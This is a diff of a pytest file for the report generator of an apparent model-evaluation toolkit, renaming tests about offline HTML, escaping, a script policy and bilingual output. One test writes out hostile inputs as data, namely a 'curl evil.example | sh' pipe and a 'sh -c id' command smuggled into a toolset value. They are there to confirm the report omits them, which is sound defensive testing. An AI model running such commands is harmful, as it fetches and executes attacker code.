@@ -1,4 +1,4 @@
-"""The HTML report as a file: self-contained, escaped, failures first, in two languages."""
+"""The HTML report page: self-contained, escaped, failures first, in two languages."""
 
 import base64
 import hashlib
@@ -22,7 +22,7 @@ SCRIPT = re.compile(r"<script>(.*?)</script>", re.DOTALL)
 
 
 @pytest.mark.promise("report.offline")
-def test_nothing_in_the_file_points_outside_it(
+def test_page_has_no_external_reference(
     full_run: Run, korean: Catalog, parse: Callable[..., Any]
 ) -> None:
     html = html_page(full_run, korean, name="gemma", baseline=full_run)
@@ -44,16 +44,16 @@ def test_nothing_in_the_file_points_outside_it(
             assert re.findall(r'(?:href|src)="(?!#)', svg) == []
 
 
-def test_no_reason_is_cut_off_before_its_not(full_run: Run, korean: Catalog) -> None:
-    """`add_note was expected and…` says the opposite of what it begins to say."""
+def test_page_style_does_not_truncate_reasons(full_run: Run, korean: Catalog) -> None:
+    """A truncated `add_note was expected and…` would have the opposite meaning."""
     styles = html_page(full_run, korean, name="r").partition("</style>")[0]
     rules = re.findall(r"([^{}]*\.lhr-reason) \{([^}]*)\}", styles)
     assert rules
-    for _, told in rules:
-        assert not re.search("ellipsis|nowrap|hidden|clamp|max-height", told)
+    for _, rule in rules:
+        assert not re.search("ellipsis|nowrap|hidden|clamp|max-height", rule)
 
 
-def test_the_policy_lets_only_our_script_run(full_run: Run, korean: Catalog) -> None:
+def test_page_policy_allows_only_its_script(full_run: Run, korean: Catalog) -> None:
     html = html_page(full_run, korean, name="gemma")
     (script,) = SCRIPT.findall(html)
     sha256 = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
@@ -62,7 +62,7 @@ def test_the_policy_lets_only_our_script_run(full_run: Run, korean: Catalog) -> 
 
 
 @pytest.mark.promise("report.escapes")
-def test_hostile_text_adds_no_script_no_handler_and_no_unknown_element(
+def test_page_of_hostile_text_has_no_script_handler_or_unknown_element(
     full_run: Run, hostile_run: Run, korean: Catalog, parse: Callable[..., Any]
 ) -> None:
     tame = parse(html_page(full_run, korean, name="x", baseline=full_run))
@@ -75,7 +75,7 @@ def test_hostile_text_adds_no_script_no_handler_and_no_unknown_element(
     assert not re.search("[\u202e\u2066\u2028\x1b\x00]", html)
 
 
-def test_failures_come_first_and_harm_before_failures(
+def test_page_lists_occurred_violations_then_failures_first(
     make_run: Callable[..., Run], make_record: Callable[..., SampleRecord], korean: Catalog
 ) -> None:
     run = make_run(
@@ -89,14 +89,14 @@ def test_failures_come_first_and_harm_before_failures(
 
 
 @pytest.mark.parametrize(("locale", "heading"), [("ko", "통과율"), ("en", "Pass rates")])
-def test_the_page_speaks_the_readers_language(locale: str, heading: str, full_run: Run) -> None:
+def test_page_is_in_the_language_of_the_catalog(locale: str, heading: str, full_run: Run) -> None:
     html = html_page(full_run, load_catalog(locale), name="x")
     assert f'<html lang="{locale}">' in html
     assert heading in html
     assert all(value in html for value in ("0123abc", "system Linux, cores 2"))
 
 
-def test_readers_of_the_structure_find_landmarks_names_and_descriptions(
+def test_page_has_landmarks_names_and_descriptions(
     full_run: Run, korean: Catalog, parse: Callable[..., Any]
 ) -> None:
     shown = parse(html_page(full_run, korean, name="x", baseline=full_run))
@@ -112,7 +112,7 @@ def test_readers_of_the_structure_find_landmarks_names_and_descriptions(
     assert {name for name in named if name} <= set(ids)
 
 
-def test_a_report_says_where_the_run_comes_from(full_run: Run, korean: Catalog) -> None:
+def test_run_metadata_has_model_versions_commit_and_command(full_run: Run, korean: Catalog) -> None:
     assert {*dict(run_metadata(full_run, full_run.summary(), korean)).values()} >= {
         "gemma · vllm 0.32 · http://127.0.0.1:8000",
         "max_tokens 128, temperature 0.0",
@@ -126,7 +126,7 @@ def test_a_report_says_where_the_run_comes_from(full_run: Run, korean: Catalog) 
 @pytest.mark.parametrize(
     "typed", [["curl", "evil.example", "|", "sh"], ["lhkit", "eval", "--toolset", "mcp:sh -c id"]]
 )
-def test_the_command_of_a_manifest_is_not_told(full_run: Run, typed: list[str]) -> None:
+def test_eval_command_is_not_that_of_the_manifest(full_run: Run, typed: list[str]) -> None:
     run = replace(full_run, manifest=full_run.manifest.model_copy(update={"command": typed}))
     assert eval_command(run, run.summary()).startswith("lhkit eval --model gemma --base-url ")
     assert typed[-1] not in markdown(run, load_catalog("en"), name="x")
@@ -143,7 +143,7 @@ def test_the_command_of_a_manifest_is_not_told(full_run: Run, typed: list[str]) 
         {"constraint": "a b"},
     ],
 )
-def test_no_command_is_built_of_a_model_that_is_no_plain_name(
+def test_eval_command_is_empty_for_unsafe_identities(
     full_run: Run, identity: dict[str, str]
 ) -> None:
     summary = full_run.summary()
@@ -151,11 +151,11 @@ def test_no_command_is_built_of_a_model_that_is_no_plain_name(
     assert eval_command(full_run, replace(summary, models=(model,))) == ""
 
 
-def test_a_run_without_records_or_manifest_has_a_page(korean: Catalog) -> None:
+def test_page_of_an_empty_run(korean: Catalog) -> None:
     assert "<main>" in html_page(Run(records=()), korean, name="empty")
 
 
-def test_a_baseline_is_set_against_the_run_with_both_transcripts(
+def test_page_with_a_baseline_has_both_transcripts(
     make_run: Callable[..., Run], make_record: Callable[..., SampleRecord], english: Catalog
 ) -> None:
     before = make_run(make_record("one"), name="before")
@@ -168,15 +168,15 @@ def test_a_baseline_is_set_against_the_run_with_both_transcripts(
 
 
 @pytest.mark.parametrize(
-    ("toolset", "is_told"), [(None, True), ("life-helper", True), ("garage", False)]
+    ("toolset", "is_shown"), [(None, True), ("life-helper", True), ("garage", False)]
 )
-def test_life_helpers_words_for_a_criterion_stand_in_no_report_of_other_tools(
-    full_run: Run, korean: Catalog, toolset: str | None, *, is_told: bool
+def test_criterion_descriptions_are_shown_for_life_helper_only(
+    full_run: Run, korean: Catalog, toolset: str | None, *, is_shown: bool
 ) -> None:
     ac = full_run.records[0].ac
     words = korean.text(f"ac.{ac}")
     run = replace(full_run, manifest=full_run.manifest.model_copy(update={"toolset": toolset}))
     for report in (html_page(run, korean, name="x"), markdown(run, korean, name="x")):
         assert ac in report
-        assert (words in report) is is_told
-    assert (words in run._repr_html_()) is is_told
+        assert (words in report) is is_shown
+    assert (words in run._repr_html_()) is is_shown
